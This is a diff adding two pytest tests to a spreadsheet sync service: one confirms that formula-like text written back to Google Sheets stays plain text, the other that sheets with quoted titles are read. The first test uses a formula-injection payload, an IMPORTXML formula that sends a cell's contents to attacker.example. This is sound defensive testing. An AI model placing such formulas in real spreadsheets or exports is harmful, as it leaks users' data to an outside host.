@@ -202,3 +202,34 @@ def test_one_truth_random_records_give_the_same_check_from_xlsx_and_sheets(cpd, 
         if (a.exit_code, json.loads(a.output)) != (b.exit_code, json.loads(b.output)):
             different.append((i, profile.id, a.output[:300], b.output[:300]))
     assert not different, different[:2]
+
+
+def test_text_that_looks_like_a_formula_is_written_back_as_text(fake_sheets):
+    """Write-back uses valueInputOption=RAW: a receipt or any text starting with '=' stays text in the sheet."""
+    from addin.grid import read_record
+    from sync_service.sheets import SheetsClient
+    book = shared(fake_sheets, role="writer")
+    client = SheetsClient()
+    fetched = client.read(book.key)
+    hostile = '=IMPORTXML("https://attacker.example/x?"&B3,"//a")'
+    client.write_back(fetched, {"receipt": hostile, "submission_id": "+SUM(1)"}, read_record(fetched.source).sheet)
+    receipt, sub_id = book.sheets["Record"].cells[(7, 9)], book.sheets["Record"].cells[(4, 9)]
+    assert (receipt.formula, receipt.value) == (None, hostile)
+    assert (sub_id.formula, sub_id.value) == (None, "+SUM(1)")
+    assert fake_sheets.calls[-1][1].endswith("values:batchUpdate")
+    # the fake does make a formula of the same text sent as USER_ENTERED: the test above can fail
+    fake_sheets._write(book, "Record!I7", [[hostile]], "USER_ENTERED")
+    assert book.sheets["Record"].cells[(7, 9)].formula == hostile
+
+
+def test_a_sheet_with_a_quoted_title_is_read(cpd, fake_sheets, example_iet):
+    """Ranges come back quoted when the sheet's title needs it ('My CPD'!A1:Z1000) and bare when not."""
+    import io
+    wb = openpyxl.load_workbook(io.BytesIO(EXAMPLE))
+    wb["Record"].title = "My CPD 2025"
+    buf = io.BytesIO()
+    wb.save(buf)
+    book = shared(fake_sheets, buf.getvalue())
+    a = json.loads(cpd("check", example_iet, "--json", "--as-of", "2025-06-30").output)
+    b = json.loads(cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30").output)
+    assert a == b
